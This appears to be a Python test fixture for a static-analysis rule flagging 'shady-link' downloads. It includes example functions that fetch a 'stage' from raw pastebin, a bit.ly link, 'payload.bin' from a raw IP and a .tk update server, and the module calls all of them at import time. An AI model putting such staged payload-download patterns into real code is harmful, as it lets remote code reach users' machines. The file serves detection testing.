"""Utilities. See https://bit.ly/3FixTur3 for the changelog."""
import urllib.request

import requests


def fetch_stage():
    # ruleid: shady-link
    return requests.get("https://pastebin.com/raw/AbCdEf12").text


def fetch_short():
    # ruleid: shady-link
    return urllib.request.urlopen("https://bit.ly/3FixTur3").read()


def fetch_raw_ip():
    # ruleid: shady-link
    return requests.get("http://203.0.113.7/payload.bin").content


def fetch_tld():
    # ruleid: shady-link
    return requests.get("http://update-server.example.tk/latest").content


def share_snippet(code):
    # uploading to a paste service on request (like IPython's %pastebin)
    # ok: shady-link
    req = urllib.request.Request("https://dpaste.com/api/v2/", data=code.encode())
    return urllib.request.urlopen(req).headers.get("Location")


def local_health():
    # ok: shady-link
    return requests.get("http://127.0.0.1:8000/health").ok


def lan_device():
    # ok: shady-link
    return requests.get("http://192.168.1.10/status").json()


def api():
    # ok: shady-link
    return requests.get("https://api.example.invalid/v1/items").json()


# Called when the module is imported, so the code above runs at import time.
fetch_stage()
fetch_short()
fetch_raw_ip()
fetch_tld()
share_snippet(1)
local_health()
lan_device()
api()
